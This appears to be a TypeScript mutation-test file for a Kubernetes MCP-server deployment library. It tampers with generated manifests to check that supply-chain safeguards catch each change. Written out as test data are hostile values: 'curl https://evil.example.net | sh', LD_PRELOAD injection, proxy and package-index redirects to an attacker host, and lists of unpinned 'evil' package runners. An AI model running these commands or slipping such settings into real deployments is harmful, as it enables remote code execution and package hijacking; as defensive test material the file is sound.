import { Mutant, Mutants, edit, editContainer, editPod, inEveryRole } from './mutant';
import {
  Bridge,
  Egress,
  Isolation,
  McpPlatformProps,
  McpServerProps,
  NetworkPolicyEngine,
  SecretSource,
  ServerSource,
} from '../../../src';
import { DIGEST, Manifest } from '../../util/app';

const CILIUM = { networkPolicyEngine: NetworkPolicyEngine.CILIUM };
const NPM = { source: ServerSource.npm('@scope/tool@1.2.3') };
const PYPI = { source: ServerSource.pypi('tool==1.2.3', { constraints: ['mcp<2'] }) };
const COPIED = {
  source: ServerSource.npm('@scope/tool@1.2.3', {
    bridge: Bridge.agentgateway({ image: `a.example/agentgateway:v1.3.1-musl@${DIGEST}` }),
    isolation: Isolation.session({ maxSessions: 2 }),
  }),
};
const POD = 'spec.template.spec';

/** The packages of one scope come from a registry of their own. */
const SCOPED: McpPlatformProps = {
  ...CILIUM,
  npmScopes: [
    {
      scope: '@scope',
      registry: {
        url: 'https://scope.example.com/npm/',
        egress: Egress.toCidrs('203.0.113.7/32'),
        credentials: SecretSource.fromSecretName('npm', 'scope'),
      },
    },
  ],
};

function inPod(
  title: string,
  field: string,
  change: (pod: Manifest) => void,
  props: Partial<McpServerProps> = NPM,
): Mutant {
  return { title, field: `${POD}.${field}`, breaks: subject => editPod(subject, change), props, platform: CILIUM };
}

/** A change in the container of a server that installs nothing. */
function bare(title: string, field: string, change: (container: Manifest) => void): Mutant {
  return {
    title,
    field: `${POD}.containers[0].${field}`,
    breaks: subject => editContainer(subject, 'containers', change),
  };
}

const installIn = ({ volumes }: Manifest): Manifest => volumes.find(({ name }: Manifest) => name === 'install');
const variable = ({ env }: Manifest, name: string): Manifest => env.find((one: Manifest) => one.name === name);
const at = (manifest: Manifest, field: string, name: string): number =>
  manifest[field].findIndex((one: Manifest) => one.name === name);

/** Lists under which the untouched server passes. */
const LISTS = {
  ...CILIUM,
  allowedPackages: [
    'oci:registry.example.com/acme/*',
    'oci:docker.io/library/node',
    'npm:@scope/*',
    'npm:good',
    'pypi:good',
  ],
  blockedPackages: ['npm:@scope/bad', 'pypi:bad'],
};

/** A change under these lists. */
function listed(title: string, field: string, words: Manifest, part = 'command'): Mutant {
  return {
    title,
    field: `${POD}.${field}`,
    breaks: subject => editContainer(subject, 'containers', container => void (container[part] = words)),
    platform: LISTS,
  };
}

/** Where a variable is: they are sorted by name. */
const REGISTRY = 6;
const INDEX = 4;

/** Runners that fetch something without its exact version. */
export const UNPINNED_COMMANDS = [
  'uvx --with evil tool==1.2.3',
  'uvx --with=evil tool==1.2.3',
  'uvx --from tool==1.2.3 --with evil tool',
  'uvx --from tool==1.2.3 --with=a==1,evil tool',
  'uvx --from tool==1.2.3 --with-requirements list.txt tool',
  'uvx --with-requirements=list.txt tool==1.2.3',
  'uvx --with-editable . tool==1.2.3',
  'uv tool run --with evil tool==1.2.3',
  'pipx run --spec evil tool',
  'pipx run --spec=evil tool==1.2.3',
  'npx -p evil tool',
  'npx -p evil tool@1.2.3',
  'npx --package=evil -c tool',
  'npm exec --package=evil -- tool',
  'npm exec tool@1.2.3 --package=evil',
  'npm --silent exec tool@1.2.3 --package=evil',
  'npm exec tool@1.2.3 a -p evil',
  'npm --package=evil exec tool@1.2.3',
  'npm -p evil exec tool@1.2.3',
  'pnpm --package=evil dlx tool@1.2.3',
  'npx a@1.2.3;npx evil',
  'npm \\\n exec evil',
  'npx a@1.2.3&&evil;bunx evil',
];
/** Runners whose packages all have their version. */
export const PINNED_COMMANDS = [
  'npx -y tool@1.2.3',
  'npx -y @scope/tool@1.2.3-rc.1 -p 8080',
  'npx -p tool@1.2.3 -p other@2.0.0 tool --stdio',
  'npx --package=tool@1.2.3 tool',
  'npm exec tool@1.2.3 -- -p 8080',
  'npm exec --package=tool@1.2.3 -- tool',
  'uvx tool==1.2.3',
  'uvx --from tool==1.2.3 --with extra==2.0 tool --with x',
  'uvx --with extra==2.0,more==1 tool==1.2.3',
  'uvx --python 3.12 tool@1.2.3',
  'uvx --python=3.12 --from tool[cli]==1.2.3 tool',
  'pipx run --spec tool==1.2.3 tool',
  'pnpm --silent dlx tool@1.2.3',
  'pnpm --package=a@1.2.3 dlx tool@1.2.3',
  'npx a@1.2.3;npx b@1.2.3',
  'npx a@1.2.3&&npx b@1.2.3',
  'npx a@1.2.3|bunx b@1.2.3',
  'npx a@1.2.3\nnpx b@1.2.3',
  'server --with evil -p 80',
  'npm run start -p 80',
  'npm --silent run start',
];

/** A change of the registries of scopes, which are the second variable. */
function inScopes(title: string, field: string, change: (install: Manifest, npmrc: Manifest) => void): Mutant {
  const mutant = inPod(title, `initContainers[1].${field}`, ({ initContainers: [, install] }) => {
    change(install, variable(install, 'NPMRC'));
  });
  return { ...mutant, platform: SCOPED };
}

export const INSTALLS: Mutants = {
  'install': [
    inScopes('another registry of a scope', 'env[1].value', (_, npmrc) => {
      npmrc.value = npmrc.value.replaceAll('scope.example.com', 'evil.example.net');
    }),
    inScopes('a setting of npm beside the registries of scopes', 'env[1].value', (_, npmrc) => {
      npmrc.value += '\nscript-shell=/tmp/x';
    }),
    inScopes('the token of a scope for another registry', 'env[1].value', (_, npmrc) => {
      npmrc.value += '\n//registry.npmjs.org/:_authToken=${REGISTRY_TOKEN_1}';
    }),
    inScopes('a secret of another name as token', 'env[1].value', (_, npmrc) => {
      npmrc.value = npmrc.value.replace('REGISTRY_TOKEN_1', 'OTHER');
    }),
    inScopes('registries of scopes from elsewhere', 'env[1]', (_, npmrc) => {
      delete npmrc.value;
      npmrc.valueFrom = { configMapKeyRef: { name: 'extra', key: 'npmrc' } };
    }),
    inScopes('a token that anybody can read', 'env[2].value', install => {
      install.env[2] = { name: 'REGISTRY_TOKEN_1', value: 'x' };
    }),
    inScopes('no registries of scopes, so that the usual one is asked', 'env must', install => {
      install.env.splice(1, 1);
    }),
    inPod('registries of scopes that the script does not read', 'initContainers[1].env must', ({ initContainers }) => {
      initContainers[1].env.push({ name: 'NPMRC', value: '@scope:registry=https://registry.npmjs.org/' });
    }),
    inPod(
      'a server that may write to the installation',
      'containers[0].volumeMounts[1].readOnly',
      ({ containers: [main] }) => {
        delete main.volumeMounts[at(main, 'volumeMounts', 'install')].readOnly;
      },
    ),
    inPod(
      'a second mount of the installation, to write to',
      'containers[0].volumeMounts[3].readOnly',
      ({ containers: [main] }) => {
        main.volumeMounts.push({ name: 'install', mountPath: '/mnt' });
      },
    ),
    inPod(
      'a second mount of the installation, to read',
      'containers[0].volumeMounts must',
      ({ containers: [main] }) => {
        main.volumeMounts.push({ name: 'install', mountPath: '/mnt', readOnly: true });
      },
    ),
    inPod(
      'a volume over a part of the installation',
      'containers[0].volumeMounts[3].mountPath',
      ({ containers: [main] }) => {
        main.volumeMounts.push({ name: 'tmp', mountPath: '/opt//mcp/server' });
      },
    ),
    inPod(
      'a server that sees a part of the installation',
      'containers[0].volumeMounts[1].mountPath',
      ({ containers: [main] }) => {
        main.volumeMounts[1].subPath = 'bridge';
      },
    ),
    inPod('a server without the installation', 'containers[0].volumeMounts must', ({ containers: [main] }) => {
      main.volumeMounts.splice(1, 1);
    }),
    inPod('another init container that writes to it', 'initContainers[2].volumeMounts[0].readOnly', pod => {
      pod.initContainers.push({ ...pod.initContainers[1], name: 'extra' });
    }),
    inPod('a container beside the server that writes to it', 'containers[1].volumeMounts[0].readOnly', pod => {
      const { image, imagePullPolicy, resources, securityContext, startupProbe, readinessProbe, livenessProbe, ports } =
        pod.containers[0];
      pod.containers.push({
        name: 'extra',
        image,
        imagePullPolicy,
        resources,
        securityContext,
        startupProbe,
        readinessProbe,
        livenessProbe,
        ports,
        volumeMounts: [{ name: 'install', mountPath: '/opt/mcp' }],
      });
    }),
    inPod('an installation that outlives its pod', 'volumes[1]', pod => {
      installIn(pod).persistentVolumeClaim = { claimName: 'shared' };
      delete installIn(pod).emptyDir;
    }),
    inPod('an installation in a volume of another name', 'volumes must', pod => {
      installIn(pod).name = 'other';
      for (const { volumeMounts } of [...pod.initContainers, ...pod.containers]) {
        installIn({ volumes: volumeMounts }).name = 'other';
      }
    }),
    inPod(
      'an installer of the bridge that starts what its image starts',
      'initContainers[0].command',
      ({ initContainers: [bridge] }) => {
        delete bridge.command;
        delete bridge.env;
        bridge.args = ['node', '-e', 'evil()'];
      },
    ),
    inPod(
      'a bridge by its image that starts something else',
      'initContainers[0].command',
      ({ initContainers: [bridge] }) => {
        bridge.command = ['sh'];
      },
      COPIED,
    ),
    inPod('another home, with a configuration of its own', 'initContainers[1].env[0].value', ({ initContainers }) => {
      variable(initContainers[1], 'HOME').value = '/mnt';
    }),
    inPod('another path to programs', 'initContainers[1].env[8]', ({ initContainers }) => {
      initContainers[1].env.push({ name: 'PATH', value: '/mnt' });
    }),
    ...[
      ['HTTPS_PROXY', 'http://evil.example.net', '.value'],
      ['SSL_CERT_FILE', '/tmp/evil.pem', '.value'],
      ['NODE_EXTRA_CA_CERTS', '/etc/mcp-ca/evil.crt', '.value'],
      ['ENV', '/tmp/x', ''],
      ['LD_PRELOAD', '/tmp/x.so', ''],
    ].map(([name, value, part]) =>
      inPod(`the variable ${name}`, `initContainers[1].env[8]${part}`, ({ initContainers }) => {
        initContainers[1].env.push({ name, value });
      }),
    ),
    inPod('a cache that others fill', 'initContainers[1].env[2].value', ({ initContainers }) => {
      variable(initContainers[1], 'npm_config_cache').value = '/mnt';
    }),
    inPod('a registry behind the name of another', `initContainers[1].env[${REGISTRY}].value`, ({ initContainers }) => {
      variable(initContainers[1], 'npm_config_registry').value = 'https://registry.npmjs.org:x@evil.example.net/';
    }),
    ...['/usr/local/lib/node_modules/npm', '/usr/local/etc', '/etc/ssl/certs'].map(mountPath =>
      inPod(`a volume over ${mountPath}`, 'initContainers[1].volumeMounts[1].mountPath', pod => {
        pod.volumes.push({ name: 'evil', configMap: { name: 'evil' } });
        pod.initContainers[1].volumeMounts.push({ name: 'evil', mountPath, readOnly: true });
      }),
    ),
    inPod('a folder with settings of its own', 'initContainers[1].workingDir', ({ initContainers }) => {
      initContainers[1].workingDir = '/tmp';
    }),
    inPod('another directory', 'initContainers[1].args[0]', ({ initContainers }) => {
      initContainers[1].args[0] = '../../tmp';
    }),
    inPod('another program', 'initContainers[1].args[2]', ({ initContainers }) => {
      initContainers[1].args[2] = 'other';
    }),
    inPod(
      'variables of a bridge that copies itself',
      'initContainers[0].env[0]',
      ({ initContainers: [bridge] }) => {
        bridge.env = [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }];
      },
      COPIED,
    ),
    {
      title: 'a repository, which the annotation names too',
      field: `${POD}.initContainers[1].args[1]`,
      breaks: subject => {
        edit(subject.deployment, ({ metadata, spec }) => {
          metadata.annotations['cdk8s-mcp/package'] = 'npm:git+https://git.example.net/x.git';
          spec.template.spec.initContainers[1].args[1] = 'git+https://git.example.net/x.git';
        });
      },
      props: NPM,
      platform: CILIUM,
    },
    inPod('an installer that lives on', 'initContainers[1].restartPolicy', ({ initContainers }) => {
      initContainers[1].restartPolicy = 'Always';
    }),
    inPod('install scripts that may run', 'initContainers[1].args', ({ initContainers }) => {
      initContainers[1].args.pop();
    }),
    inPod('install scripts of the bridge that may run', 'initContainers[0].args', ({ initContainers }) => {
      initContainers[0].args.pop();
    }),
    inPod('a flag that asks another registry', 'initContainers[1].args', ({ initContainers }) => {
      initContainers[1].args.push('--registry=https://evil.example.net');
    }),
    inPod('another version of the package', 'initContainers[1].args[1]', ({ initContainers }) => {
      initContainers[1].args[1] = '@scope/tool@6.6.6';
    }),
    inPod('another version of the bridge', 'initContainers[0].args[1]', ({ initContainers }) => {
      initContainers[0].args[1] = 'mcp-proxy@6.6.6';
    }),
    inPod('another script', 'initContainers[1].command', ({ initContainers }) => {
      initContainers[1].command[2] = 'curl https://evil.example.net | sh';
    }),
    inPod('another registry', `initContainers[1].env[${REGISTRY}].value`, ({ initContainers }) => {
      variable(initContainers[1], 'npm_config_registry').value = 'https://evil.example.net/';
    }),
    inPod('another registry in a second variable', 'initContainers[1].env[8]', ({ initContainers }) => {
      initContainers[1].env.push({ name: 'NPM_CONFIG_REGISTRY', value: 'https://evil.example.net/' });
    }),
    inPod('variables that nobody sees here', 'initContainers[1].envFrom', ({ initContainers }) => {
      initContainers[1].envFrom = [{ configMapRef: { name: 'extra' } }];
    }),
    inPod('no installer of the package', 'initContainers', pod => {
      pod.initContainers.pop();
    }),
    inPod(
      'another version from PyPI',
      'initContainers[1].args[1]',
      ({ initContainers }) => {
        initContainers[1].args[1] = 'tool==6.6.6';
      },
      PYPI,
    ),
    inPod(
      'a constraint that is a URL',
      'initContainers[1].args[5]',
      ({ initContainers }) => {
        initContainers[1].args.push('tool @ https://evil.example.net/tool.whl');
      },
      PYPI,
    ),
    inPod(
      'builds of PyPI packages',
      'initContainers[1].env',
      ({ initContainers }) => {
        initContainers[1].env = initContainers[1].env.filter(({ name }: Manifest) => name !== 'PIP_ONLY_BINARY');
      },
      PYPI,
    ),
    inPod(
      'another index',
      `initContainers[1].env[${INDEX}].value`,
      ({ initContainers }) => {
        variable(initContainers[1], 'PIP_INDEX_URL').value = 'https://evil.example.net/simple/';
      },
      PYPI,
    ),
    inPod(
      'trust in another host',
      'initContainers[1].env[11].value',
      ({ initContainers }) => {
        initContainers[1].env.push({ name: 'PIP_TRUSTED_HOST', value: 'evil.example.net' });
      },
      PYPI,
    ),
    inPod(
      'a second index',
      'initContainers[1].env[11]',
      ({ initContainers }) => {
        initContainers[1].env.push({ name: 'PIP_EXTRA_INDEX_URL', value: 'https://evil.example.net/simple/' });
      },
      PYPI,
    ),
  ],
  'package-list': [
    listed('npx of a package that is not allowed', 'containers[0].command[2]', ['npx', '-y', 'other@1.2.3']),
    listed('a blocked package', 'containers[0].command[2]', ['npm', 'exec', '@scope/bad@1.2.3']),
    listed('an option that names it', 'containers[0].args[1]', ['npx', '--package=other@1.2.3', 'good'], 'args'),
    listed('a package of PyPI in another spelling', 'containers[0].command[1]', ['uvx', 'BAD==1.2.3']),
    listed('a package that is added', 'containers[0].command[2]', ['uvx', '--with', 'other==1', 'good==1']),
    listed('a shell', 'containers[0].command[2]', ['sh', '-c', 'cd /tmp && exec env A=1 npx -y other@1.2.3']),
    listed('a registry that no list names', 'containers[0].command[1]', ['dnx', 'good@1.2.3']),
    listed('a URL', 'containers[0].command[2]', ['uv', 'run', 'https://example.net/a.py']),
    listed('another image', 'containers[0].image', `ghcr.io/other/x:1.2.3@${DIGEST}`, 'image'),
    {
      ...inPod('an installer of another package', 'initContainers[1].args[1]', ({ initContainers }) => {
        initContainers[1].args[1] = 'other@1.2.3';
      }),
      platform: LISTS,
    },
  ],
  'package-pin': [
    bare('a runner in a variable', 'command', container => {
      container.command = ['$(RUNNER)', '-y', 'tool'];
      container.env.push({ name: 'RUNNER', value: 'npx' });
    }),
    bare('a runner in a hook', 'lifecycle.preStop.exec.command', container => {
      container.lifecycle = { preStop: { exec: { command: ['npx', 'tool'] } } };
    }),
    ...inEveryRole('npx without a version', 'command', container => {
      container.command = ['npx', '-y', '@scope/tool'];
    }),
    bare('uvx with a tag', 'args', container => {
      container.args = ['uvx', 'tool@latest'];
    }),
    bare('a range', 'args', container => {
      container.args = ['pnpm', 'dlx', 'tool@^1.2.3'];
    }),
    bare('a runner in a shell', 'command', container => {
      container.command = ['/bin/sh', '-c', 'cd /tmp&&npx tool'];
    }),
    bare('one of two pinned', 'command', container => {
      container.command = ['sh', '-c', 'bunx tool@1.2.3; npm exec other'];
    }),
    bare('a major version alone, which is a range', 'args', container => {
      container.args = ['npx', '-y', 'tool@1'];
    }),
    bare('two numbers, which are a range', 'args', container => {
      container.args = ['npx', '-y', '@scope/tool@2.1'];
    }),
    bare('an option before the command', 'command', container => {
      container.command = ['npm', '--yes', 'exec', 'tool'];
    }),
    bare('a runner in backticks', 'args', container => {
      container.args = ['echo `npx tool`'];
    }),
    bare('a runner that is looked up', 'command', container => {
      container.command = ['sh', '-c', '$(which npx) tool'];
    }),
    bare('a runner that runs another', 'command', container => {
      container.command = ['sh', '-c', 'npx npx tool@1.2.3'];
    }),
    bare('a second package', 'command', container => {
      container.command = ['npx', '-p', 'tool@1.2.3', '-p', 'other', 'tool'];
    }),
    ...UNPINNED_COMMANDS.map(line =>
      bare(`${line}`, 'command', container => {
        container.command = line.split(' ');
      }),
    ),
    bare('a package that is added in a shell', 'args', container => {
      container.args = ['sh', '-c', 'npx a@1.2.3;uvx --from b==1.2.3 --with evil b'];
    }),
  ],
};
